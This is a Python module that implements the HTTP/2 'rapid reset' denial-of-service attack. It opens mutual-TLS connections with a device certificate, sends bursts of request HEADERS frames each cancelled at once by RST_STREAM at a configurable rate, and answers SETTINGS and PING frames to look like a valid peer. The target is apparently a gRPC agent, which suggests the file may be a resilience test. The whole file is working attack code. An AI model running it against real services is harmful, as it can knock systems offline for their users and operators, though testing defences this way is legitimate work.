"""HTTP/2 rapid reset attack: a peer that opens streams and resets them at once, over its own TLS."""

import socket
import ssl
import struct
import time
from pathlib import Path

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _ACK, _END_HEADERS = 1, 3, 4, 6, 7, 1, 4
_CANCEL = struct.pack(">I", 8)


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """Encode an HPACK header field as a literal, neither indexed nor compressed."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


_REQUEST = b"".join(
    _literal(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", b"/jmsnas.Agent/Describe"),
        (b":authority", b"agent"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def rapid_reset(address: str, certs: Path, per_s: int, seconds: float) -> int:
    """Reset `per_s` streams a second with a device's certificate, and return how many were reset."""
    context = ssl.create_default_context(cafile=str(certs / "ca.pem"))
    context.check_hostname = False
    context.load_cert_chain(certs / "device.pem", certs / "device.key")
    context.set_alpn_protocols(["h2"])
    began, done = time.monotonic(), 0
    while time.monotonic() - began < seconds:
        try:
            done += _connection(context, address, per_s, began, seconds, done)
        except OSError:  # the agent closed this connection
            time.sleep(0.01)
    return done


def _connection(
    context: ssl.SSLContext, address: str, per_s: int, began: float, seconds: float, before: int
) -> int:
    host, _, port = address.rpartition(":")
    done = 0
    with (
        socket.create_connection((host, int(port)), 5) as plain,
        context.wrap_socket(plain, server_hostname=host) as connection,
    ):
        connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
        connection.settimeout(0.001)
        unread = b""
        while (now := time.monotonic() - began) < seconds:
            stream, burst = 2 * done + 1, min(50, int(per_s * now) - before - done)
            resets = (
                _frame(_HEADERS, _END_HEADERS, stream + 2 * n, _REQUEST)
                + _frame(_RESET, 0, stream + 2 * n, _CANCEL)
                for n in range(max(0, burst))
            )
            connection.settimeout(5)
            connection.sendall(b"".join(resets))
            done += max(0, burst)
            connection.settimeout(0.001)
            try:
                received = connection.recv(1 << 16)
            except TimeoutError:
                continue
            if not received:
                break
            unread = _answered(connection, unread + received)
    return done


def _answered(connection: ssl.SSLSocket, unread: bytes) -> bytes:
    """Answer settings and pings, as a valid peer must, and return the bytes of the incomplete frame."""
    while len(unread) >= 9:
        size, kind, flags = int.from_bytes(unread[:3], "big"), unread[3], unread[4]
        if len(unread) < 9 + size:
            break
        payload, unread = unread[9 : 9 + size], unread[9 + size :]
        if kind in (_SETTINGS, _PING) and not flags & _ACK:
            connection.settimeout(5)
            connection.sendall(_frame(kind, _ACK, 0, payload if kind == _PING else b""))
            connection.settimeout(0.001)
        if kind == _GOAWAY:
            raise ConnectionAbortedError
    return unread
